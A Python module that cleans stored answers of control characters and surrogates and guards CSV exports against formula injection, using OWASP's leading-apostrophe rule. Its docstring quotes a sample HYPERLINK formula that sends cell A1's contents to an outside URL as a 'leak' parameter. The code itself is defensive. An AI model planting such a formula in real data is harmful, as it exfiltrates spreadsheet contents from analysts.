"""Text that is safe to store and to hand to spreadsheets.

Control characters (C0 except tab, newline and carriage return; DEL; C1), lone UTF-16
surrogates and the non-characters U+FFFE/U+FFFF have no place in an answer typed at a
door: PostgreSQL refuses U+0000, UTF-8 cannot encode a lone surrogate, and openpyxl
refuses C0 controls for a whole workbook. The API refuses them (:func:`bad_character`);
exports strip what older rows hold (:func:`clean`).

Spreadsheet formulas: a cell typed ``=HYPERLINK("http://…?leak="&A1, "…")`` in an answer
must reach the analyst's Excel as text. :func:`csv_cell` applies OWASP's CSV-injection
rule (a leading ``'`` before ``= + - @``, tab or carriage return); XLSX cells are written as
string cells by the export itself.
"""

from __future__ import annotations

import re

_BAD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def bad_character(text: str) -> str | None:
    """The first character of ``text`` that may not be stored, as ``U+XXXX``, or None."""
    match = _BAD.search(text)
    return None if match is None else f"U+{ord(match.group()):04X}"


def clean(text: str) -> str:
    """``text`` without the characters :func:`bad_character` refuses."""
    return _BAD.sub("", text)


def csv_cell(value):
    """A value for a CSV cell: cleaned, and a text that a spreadsheet would read as a
    formula prefixed with ``'`` (OWASP). Numbers pass unchanged."""
    if not isinstance(value, str):
        return value
    value = clean(value)
    return "'" + value if value.startswith(FORMULA_START) else value
